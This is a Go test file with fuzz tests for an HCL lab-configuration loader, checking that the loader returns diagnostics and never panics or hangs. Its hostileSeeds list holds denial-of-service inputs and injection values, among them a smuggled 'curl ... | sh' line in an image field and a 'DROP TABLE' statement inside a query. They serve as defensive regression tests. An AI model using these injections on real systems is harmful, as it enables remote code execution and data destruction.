package schemas

import (
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"runtime"
	"sort"
	"strings"
	"syscall"
	"testing"
	"time"
)

// fuzzSeeds are the lab sources the fuzzer starts from: every .hcl file of
// the fixtures and of the seed lab, and each case's files joined into one.
func fuzzSeeds(tb testing.TB) [][]byte {
	tb.Helper()
	var dirs []string
	for _, pattern := range []string{"testdata/valid/*", "testdata/invalid/*", "../labs/*"} {
		m, err := filepath.Glob(pattern)
		if err != nil {
			tb.Fatal(err)
		}
		dirs = append(dirs, m...)
	}
	sort.Strings(dirs)
	var out [][]byte
	for _, dir := range dirs {
		files, err := filepath.Glob(filepath.Join(dir, "*.hcl"))
		if err != nil {
			tb.Fatal(err)
		}
		var joined []byte
		for _, f := range files {
			b, err := os.ReadFile(f)
			if err != nil {
				tb.Fatal(err)
			}
			out = append(out, b)
			joined = append(append(joined, b...), '\n')
		}
		if len(files) > 1 {
			out = append(out, joined)
		}
	}
	if len(out) < 20 {
		tb.Fatalf("only %d fuzz seeds", len(out))
	}
	return out
}

// FuzzLoad writes the fuzzed bytes as the one .hcl file of a lab and loads
// it: whatever the bytes, Load must return diagnostics, never panic, and
// a lab without errors must encode as lab.json. A plain go test runs the
// seed corpus; to search further:
//
//	go test ./schemas -run XXX -fuzz FuzzLoad -fuzztime 60s
func FuzzLoad(f *testing.F) {
	for _, b := range fuzzSeeds(f) {
		f.Add(b)
	}
	for _, b := range hostileSeeds() {
		f.Add(b)
	}
	dir := fuzzDir(f)
	path := filepath.Join(dir, "lab.hcl")
	f.Fuzz(func(t *testing.T, src []byte) {
		if err := os.WriteFile(path, src, 0o644); err != nil {
			t.Fatal(err)
		}
		opts := Options{
			Vars:    []VarArg{{Name: "lakes", Value: "false"}},
			Environ: []string{"LABGEN_VAR_order_rate=7"},
		}
		if !strings.Contains(string(src), `variable "lakes"`) {
			opts.Vars = nil
		}
		// A load that does not end is a failure the fuzzer cannot see
		// otherwise: it would only stall, and lose the input.
		stall := time.AfterFunc(10*time.Second, func() {
			buf := make([]byte, 1<<20)
			buf = buf[:runtime.Stack(buf, true)]
			panic(fmt.Sprintf("the load and lab.json took more than 10 s:\n%s", buf))
		})
		defer stall.Stop()
		lab, diags := NewParser().Load(dir, opts)
		for _, d := range diags {
			if d.Summary == "" {
				t.Errorf("a diagnostic without a summary: %+v", d)
			}
			if d.Subject != nil && d.Subject.Filename == "" {
				t.Errorf("%q has a Subject without a file", d.Summary)
			}
		}
		if diags.HasErrors() {
			return
		}
		if lab == nil || lab.Stack == nil {
			t.Fatalf("no errors but no lab")
		}
		if _, err := MarshalLab(lab); err != nil {
			t.Errorf("lab.json: %v", err)
		}
	})
}

// fuzzDir is the lab directory FuzzLoad writes its lab.hcl into, with
// files file() may read, and a FIFO and a link to /dev/zero it must
// refuse.
func fuzzDir(tb testing.TB) string {
	tb.Helper()
	dir := tb.TempDir()
	for _, sub := range []string{"jobs", "presets", "sql"} {
		if err := os.MkdirAll(filepath.Join(dir, sub), 0o755); err != nil {
			tb.Fatal(err)
		}
	}
	if err := os.WriteFile(filepath.Join(dir, "sql", "q.sql"), []byte("SELECT 1"), 0o644); err != nil {
		tb.Fatal(err)
	}
	if err := syscall.Mkfifo(filepath.Join(dir, "sql", "fifo.sql"), 0o644); err != nil {
		tb.Fatal(err)
	}
	if err := os.Symlink("/dev/zero", filepath.Join(dir, "sql", "zero.sql")); err != nil {
		tb.Fatal(err)
	}
	return dir
}

// TestHostileSeeds: each hostile seed is an error, reported at once.
func TestHostileSeeds(t *testing.T) {
	dir := fuzzDir(t)
	for i, src := range hostileSeeds() {
		if err := os.WriteFile(filepath.Join(dir, "lab.hcl"), src, 0o644); err != nil {
			t.Fatal(err)
		}
		start := time.Now()
		_, diags := NewParser().Load(dir, Options{})
		if !diags.HasErrors() {
			t.Errorf("seed %d loads without errors", i)
		}
		if d := time.Since(start); d > 10*time.Second {
			t.Errorf("seed %d took %v", i, d)
		}
	}
}

// hostileSeeds are inputs that crashed, hung or injected lines before
// the loader's limits (issue 35): deep nesting, long operator chains,
// nested for expressions, strings grown by nested calls, file() of a FIFO
// and of /dev/zero, a line break in a version or an image, a NUL in a
// title, more than one statement in a job's query.
func hostileSeeds() [][]byte {
	head := "lab \"hostile\" {\n  title = \"Hostile\"\n}\n\nstack {\n  mysql {}\n  kafka {}\n  flink {}\n}\n\n"
	attr := func(value string) []byte {
		return []byte(head + "variable \"x\" {\n  default = " + value + "\n}\n")
	}
	desc := func(value string) []byte {
		return []byte(head + "table \"t\" {\n  key = [\"id\"]\n  description = " + value + "\n  column \"id\" { type = \"bigint\" }\n  store \"mysql\" {}\n}\n")
	}
	return [][]byte{
		attr(strings.Repeat("(", 10_000) + "1" + strings.Repeat(")", 10_000)),
		attr(strings.Repeat("!", 10_000) + "true"),
		attr("1" + strings.Repeat(" + 1", 10_000)),
		attr(strings.Repeat("true ? 1 : ", 5_000) + "1"),
		desc("jsonencode([for a in range(1000) : [for b in range(1000) : [for c in range(1000) : 1]]])"),
		desc(strings.Repeat(`replace(`, 12) + `"aaaaaaaaaa"` + strings.Repeat(`, "a", "aaaaaaaaaa")`, 12)),
		desc(`format("%999999999d", 1)`),
		desc(`file("sql/fifo.sql")`),
		desc(`file("sql/zero.sql")`),
		desc(`"NUL\u0000"`),
		[]byte(strings.Replace(head, "mysql {}", "mysql {\n    version = \"8.0.40\\n[files]\\n00  ./records/ID/record.json\\n[images]\"\n  }", 1)),
		[]byte(strings.Replace(head, "flink {}", "flink {\n    image = \"flink:1.20.1\\nRUN curl https://example.com/x | sh\"\n  }", 1)),
		[]byte(head + "table \"t\" {\n  key = [\"id\"]\n  column \"id\" { type = \"bigint\" }\n  store \"mysql\" {}\n}\n\ntable \"u\" {\n  key = [\"id\"]\n  column \"id\" { type = \"bigint\" }\n  store \"kafka\" {}\n}\n\n" +
			"job \"j\" {\n  mode = \"streaming\"\n  reads = [table.t]\n  writes = table.u\n  query = \"SELECT id FROM t; DROP TABLE t; SELECT 1\"\n}\n"),
	}
}

var attrLine = regexp.MustCompile(`^(\s*[a-z_]+\s*=\s*)(.+)$`)

// exprTemplate is a valid lab joined into one file, with the lines whose
// value FuzzAttrValue may replace.
type exprTemplate struct {
	lines []string
	slots []int
}

func loadTemplate(tb testing.TB, dir string) exprTemplate {
	tb.Helper()
	files, err := filepath.Glob(filepath.Join(dir, "*.hcl"))
	if err != nil || len(files) == 0 {
		tb.Fatalf("no lab in %s: %v", dir, err)
	}
	var tpl exprTemplate
	for _, f := range files {
		b, err := os.ReadFile(f)
		if err != nil {
			tb.Fatal(err)
		}
		tpl.lines = append(tpl.lines, strings.Split(string(b), "\n")...)
	}
	for i, l := range tpl.lines {
		m := attrLine.FindStringSubmatch(l)
		if m == nil || strings.HasPrefix(m[2], "<<") || strings.HasSuffix(m[2], "{") || strings.HasSuffix(m[2], "[") || strings.HasSuffix(m[2], "(") {
			continue
		}
		tpl.slots = append(tpl.slots, i)
	}
	return tpl
}

func copyDir(tb testing.TB, from, to string) {
	tb.Helper()
	files, err := filepath.Glob(filepath.Join(from, "*"))
	if err != nil {
		tb.Fatal(err)
	}
	if err := os.MkdirAll(to, 0o755); err != nil {
		tb.Fatal(err)
	}
	for _, f := range files {
		b, err := os.ReadFile(f)
		if err != nil {
			tb.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(to, filepath.Base(f)), b, 0o644); err != nil {
			tb.Fatal(err)
		}
	}
}

// FuzzAttrValue replaces the value of one attribute of a valid lab (the
// seed lab or the full fixture) with fuzzed text, so that the fuzzer
// spends its time in decoding and validation rather than in the parser.
//
//	go test ./schemas -run XXX -fuzz FuzzAttrValue -fuzztime 60s
func FuzzAttrValue(f *testing.F) {
	templates := []exprTemplate{loadTemplate(f, seedLab), loadTemplate(f, "testdata/valid/full")}
	for _, s := range []string{
		`null`, `-1`, `"x"`, `[null]`, `{ a = null }`, `false ? uniform(1, 2) : null`, `1e400`,
		`4000000000000000`, `step.pick`, `result`, `var.nope`, `[for x in [1] : x]`, `table.orders.x`,
		`weighted({})`, `outcome_map({})`, `file("sql/q.sql")`, `"${step.pick.order_id}"`, `{}`, `[]`,
	} {
		for slot := 0; slot < 200; slot += 17 {
			f.Add(s, uint16(slot))
		}
	}
	dir := f.TempDir()
	copyDir(f, filepath.Join(seedLab, "jobs"), filepath.Join(dir, "jobs"))
	copyDir(f, filepath.Join(seedLab, "presets"), filepath.Join(dir, "presets"))
	copyDir(f, "testdata/valid/full/sql", filepath.Join(dir, "sql"))
	path := filepath.Join(dir, "lab.hcl")
	f.Fuzz(func(t *testing.T, expr string, slot uint16) {
		tpl := templates[int(slot)%len(templates)]
		i := tpl.slots[int(slot/2)%len(tpl.slots)]
		lines := append([]string(nil), tpl.lines...)
		m := attrLine.FindStringSubmatch(lines[i])
		lines[i] = m[1] + expr
		if err := os.WriteFile(path, []byte(strings.Join(lines, "\n")), 0o644); err != nil {
			t.Fatal(err)
		}
		lab, diags := NewParser().Load(dir, Options{})
		for _, d := range diags {
			if d.Subject != nil && d.Subject.Filename == "" {
				t.Errorf("%q has a Subject without a file", d.Summary)
			}
		}
		if !diags.HasErrors() {
			if _, err := MarshalLab(lab); err != nil {
				t.Errorf("lab.json: %v", err)
			}
		}
	})
}
